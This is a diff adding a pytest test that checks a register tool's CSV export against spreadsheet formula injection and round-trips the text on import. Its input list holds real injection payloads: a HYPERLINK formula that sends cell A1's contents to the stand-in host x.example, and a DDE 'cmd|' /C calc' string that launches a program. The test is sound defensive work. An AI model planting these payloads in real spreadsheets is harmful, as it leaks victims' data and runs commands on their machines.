@@ -343,6 +343,41 @@ def test_export_writes_formula_text_as_text(runner, base: Path, tmp_path: Path) 
     assert cells and all(c.data_type == "s" for c in cells)
 
 
+HOSTILE_TEXTS = ['=HYPERLINK("http://x.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+                 "＝1+1", '第一行\n第二行, 含"引号"与,逗号', "\t=1"]
+
+
+def test_export_csv_cells_are_never_formulas_and_import_back_unchanged(runner, base: Path,  # type: ignore[no-untyped-def]
+                                                                       tmp_path: Path) -> None:
+    """Text starting = + - @ is written '=… to CSV (no live formula), newlines and quotes are quoted, and
+    importing the CSV gives the same text back."""
+    import csv
+    import io
+
+    path = base / "units" / "county-amr" / "risks.yaml"
+    import yaml
+
+    data = yaml.safe_load(path.read_text(encoding="utf-8"))
+    for r, text in zip(data["risks"], HOSTILE_TEXTS, strict=False):
+        r["description"] = text
+    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
+    folder = tmp_path / "csv"
+    r = invoke(runner, "export", "--root", str(base), "--format", "csv", "--table", "all", "--out", str(folder))
+    assert r.exit_code == 0, r.output
+    for f in folder.iterdir():
+        rows = list(csv.reader(io.StringIO(f.read_text(encoding="utf-8-sig"), newline="")))
+        cells = [c for row in rows[1:] for c in row]
+        assert not any(c[:1] in ("=", "+", "@", "\t", "＝") for c in cells), f.name
+        assert not any(c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit() for c in cells), f.name
+    dst = _empty_copy(base, tmp_path / "reg")
+    _new_unit(runner, dst)
+    r = invoke(runner, "import", *sorted(str(p) for p in folder.iterdir()), "--root", str(dst), "--unit", "copy")
+    assert r.exit_code == 0, r.stdout
+    _assert_same_unit(Register(base), "county-amr", Register(dst), "copy")
+    got = {x.model.description for x in Register(dst).unit("copy").risks}
+    assert set(HOSTILE_TEXTS[:len(data["risks"])]) <= got
+
+
 @pytest.mark.parametrize("kind", ["merge", "far-cell"])
 def test_small_xlsx_bounds_the_work(tmp_path: Path, kind: str) -> None:
     """A 2 KB workbook with one merge A3:XFD1048576 or one cell at ZZ500000 reads only its real content."""
